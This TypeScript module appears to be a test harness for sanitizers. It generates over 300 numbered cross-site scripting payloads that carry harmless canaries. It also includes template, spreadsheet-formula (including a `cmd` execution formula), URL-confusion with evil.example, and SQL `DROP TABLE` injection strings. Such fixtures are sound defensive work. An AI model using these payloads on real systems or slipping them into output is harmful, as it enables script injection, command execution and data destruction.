/** What runs where a text is taken for a page: the call and the address name the payload, so that a test can say which it was. */
interface Canary {
  readonly run: string
  readonly load: string
}

/** Elements that run or load something by themselves. `wlmark` shows them in a page even where nothing ran. */
const elements: readonly ((canary: Canary) => string)[] = [
  ({ run }) => `<script wlmark>${run}</script>`,
  ({ load }) => `<script wlmark src="${load}"></script>`,
  ({ run }) => `<ScRiPt wlmark\n>${run}</sCrIpT >`,
  ({ run }) => `<img wlmark src=x onerror=${run}>`,
  ({ load }) => `<img wlmark src="${load}">`,
  ({ load }) => `<img wlmark srcset="${load} 2x">`,
  ({ run }) => `<IMG """><wlmark wlmark><img wlmark src=1 oneRRor="${run}">`,
  ({ run }) => `<svg wlmark onload=${run}>`,
  ({ run }) => `<svg wlmark><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  ({ run }) => `<svg wlmark><script>${run}</script></svg>`,
  ({ load }) => `<svg wlmark><use href="${load}#a"/><image href="${load}"/></svg>`,
  ({ run }) => `<svg wlmark><a xlink:href="javascript:${run}"><text y=20>点我</text></a></svg>`,
  ({ run }) => `<body wlmark onload=${run} onpageshow=${run}>`,
  ({ run }) => `<details wlmark open ontoggle=${run}>`,
  ({ run }) => `<input wlmark autofocus onfocus=${run}>`,
  ({ run }) => `<select wlmark autofocus onfocus=${run}></select>`,
  ({ run }) => `<video wlmark><source onerror="${run}"></video>`,
  ({ load }) => `<video wlmark poster="${load}" src="${load}" autoplay></video>`,
  ({ run }) => `<audio wlmark src=x onerror=${run}></audio>`,
  ({ run }) => `<iframe wlmark srcdoc="<script>parent.${run}</script>"></iframe>`,
  ({ load }) => `<iframe wlmark src="${load}"></iframe>`,
  ({ run }) => `<iframe wlmark src="javascript:parent.${run}"></iframe>`,
  ({ load }) => `<object wlmark data="${load}"></object>`,
  ({ load }) => `<embed wlmark src="${load}">`,
  ({ load }) => `<link wlmark rel=stylesheet href="${load}">`,
  ({ load }) => `<link wlmark rel="prefetch preload dns-prefetch" as=script href="${load}">`,
  ({ load }) => `<meta wlmark http-equiv=refresh content="0;url=${load}">`,
  ({ load }) => `<base wlmark href="${load}/">`,
  ({ load }) => `<style wlmark>@import "${load}";body{background:url(${load})}</style>`,
  ({ load }) => `<div wlmark style="background:url('${load}');width:expression(alert(1))">样式</div>`,
  ({ run }) => `<div wlmark style="animation:x" onanimationstart=${run} onanimationend=${run}></div><style wlmark>@keyframes x{}</style>`,
  ({ run }) => `<a wlmark href="javascript:${run}">点我</a>`,
  ({ run }) => `<a wlmark href="java\tscript:${run}">点我</a>`,
  ({ run }) => `<form wlmark action="javascript:${run}"><button wlmark autofocus>提交</button></form>`,
  ({ run }) => `<button wlmark formaction="javascript:${run}" onclick=${run}>提交</button>`,
  ({ run }) => `<marquee wlmark onstart=${run}>滚动</marquee>`,
  ({ run }) => `<math wlmark><mtext><table><mglyph><style><img wlmark src onerror=${run}></style></mglyph></table></mtext></math>`,
  ({ run }) => `<noscript wlmark><p title="</noscript><img wlmark src=x onerror=${run}>"></noscript>`,
  ({ run }) => `<template wlmark><script>${run}</script></template>`,
  ({ run }) => `<table wlmark><td background="javascript:${run}"></td></table>`,
  ({ load }) => `<isindex wlmark><bgsound wlmark src="${load}"><track wlmark src="${load}">`,
  ({ run }) => `<x wlmark contenteditable onblur=${run} onpointerrawupdate=${run} tabindex=1 autofocus>x</x>`
]

/** What one breaks out of first. */
const contexts: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}<!--`,
  (inner) => `--></title></textarea></style></script>${inner}`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (inner) => Array.from(inner, (sign) => `&#${sign.codePointAt(0) ?? 0};`).join('')
]

/** What is dangerous without being an element. */
const others: readonly ((canary: Canary) => string)[] = [
  ({ run }) => `javascript:${run}`,
  ({ run }) => `JaVaScRiPt://%0a${run}`,
  ({ run }) => `data:text/html,<script wlmark>${run}</script>`,
  ({ run }) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  ({ run }) => `vbscript:${run}`,
  ({ run }) => `{{constructor.constructor('${run}')()}}`,
  ({ run }) => `\${${run}}#{${run}}<%= ${run} %>[[${run}]]`,
  ({ run }) => `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  ({ run }) => `' style='x' onfocus='${run}' autofocus='`,
  ({ run }) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  ({ run }) => `%3Cscript%3E${run}%3C%2Fscript%3E`,
  ({ run }) => `＜script＞${run}＜/script＞`,
  ({ run }) => `<scr<script wlmark>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `<img wlmark src=x onerror=${run} //`,
  ({ run }) => `<!--><img wlmark src=x onerror=${run}>-->`,
  ({ run }) => `</w:t></w:r></w:p><w:p>${run}</w:p>]]>&bogus;&#0;&#x1f600`,
  ({ load }) => `=HYPERLINK("${load}","点我")`,
  ({ load }) => `=WEBSERVICE("${load}")`,
  () => `=cmd|' /C calc'!A0`,
  () => `+1+1`,
  () => `-2+3`,
  () => `@SUM(1+1)`,
  () => `＝1+1`,
  ({ load }) => `=IMPORTXML("${load}","//a")`,
  ({ load }) => `[点我](${load} "x") ![图](${load})`,
  ({ load }) => `https://${new URL(load).host}@evil.example/\\@"><`,
  () => `\u202egnp.exe\u202c\u2066倒写\u2069\u200b\u200f`,
  () => `👩‍👩‍👧‍👦🇨🇳🔥${'̶'.repeat(40)}`,
  () => '长'.repeat(10_000),
  () => `';DROP TABLE incidents;--`
]

/** More than 300, each ending in its number as `【12】`; `run` of a page that has none of that name does nothing, `origin` hears of each load. */
export function xssPayloads(origin: string): readonly string[] {
  const made = [...elements.flatMap((element) => contexts.map((context) => (canary: Canary) => context(element(canary)))), ...others]
  return made.map((make, index) => `${make({ run: `wlRan(${index})`, load: `${origin}/${index}` })}【${index}】`)
}

/** The numbers of the payloads that a text shows. */
export function payloadsIn(text: string): ReadonlySet<number> {
  return new Set([...text.matchAll(/【(\d+)】/g)].map(([, number]) => Number(number)))
}

/** Joined so that none is longer than `most`, but for one that is so alone. */
export function payloadBatches(payloads: readonly string[], most: number): readonly string[] {
  return payloads.reduce<string[]>((batches, payload) => {
    const last = batches.at(-1)
    return last !== undefined && last.length + payload.length < most ? [...batches.slice(0, -1), `${last} ${payload}`] : [...batches, payload]
  }, [])
}
